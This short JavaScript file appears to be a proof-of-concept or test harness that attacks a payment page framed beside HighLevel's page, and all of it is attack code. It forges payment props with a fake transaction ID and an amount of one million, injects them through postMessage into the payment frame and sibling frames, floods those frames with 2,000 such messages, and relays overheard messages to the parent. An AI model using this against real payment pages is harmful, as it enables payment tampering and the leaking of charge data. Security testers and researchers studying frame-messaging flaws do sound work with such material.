// A frame that HighLevel's page holds beside the payment page: it posts props of its own to it, and listens for answers.

const { props, frame } = Object.fromEntries(new URLSearchParams(location.search));
const tell = (told) => parent.postMessage({ told }, "*");
const forged = { ...JSON.parse(props), transactionId: "forged", amount: 1_000_000 };

if (frame) {
    // It frames the page itself: then it is who the page talks to, and what it gets proves nothing.
    const inner = document.createElement("iframe");
    inner.src = frame;
    const heard = [];
    addEventListener("message", ({ source, data }) => {
        if (source !== inner.contentWindow || typeof data !== "string") return;
        heard.push(JSON.parse(data));
        if (heard.length === 1) inner.contentWindow.postMessage(JSON.stringify(forged), "*");
        if (data.includes("custom_element")) tell({ inner: { type: heard.at(-1).type, chargeId: heard.at(-1).chargeId } });
    });
    document.body.append(inner);
} else {
    addEventListener("message", ({ data }) => {
        // Its likes post to it as well.
        if (!JSON.stringify(data).includes("forged")) parent.postMessage({ overheard: data }, "*");
    });
    tell({ here: true });
    let done = 0;
    const timer = setInterval(() => {
        for (let i = 0; i < parent.frames.length; i += 1) {
            if (parent.frames[i] === window) continue;
            for (let n = 0; n < 10; n += 1) {
                parent.frames[i].postMessage(n % 2 ? forged : JSON.stringify(forged), "*");
                done += 1;
            }
        }
        if (done >= 2_000) {
            clearInterval(timer);
            tell({ done });
        }
    }, 2);
}
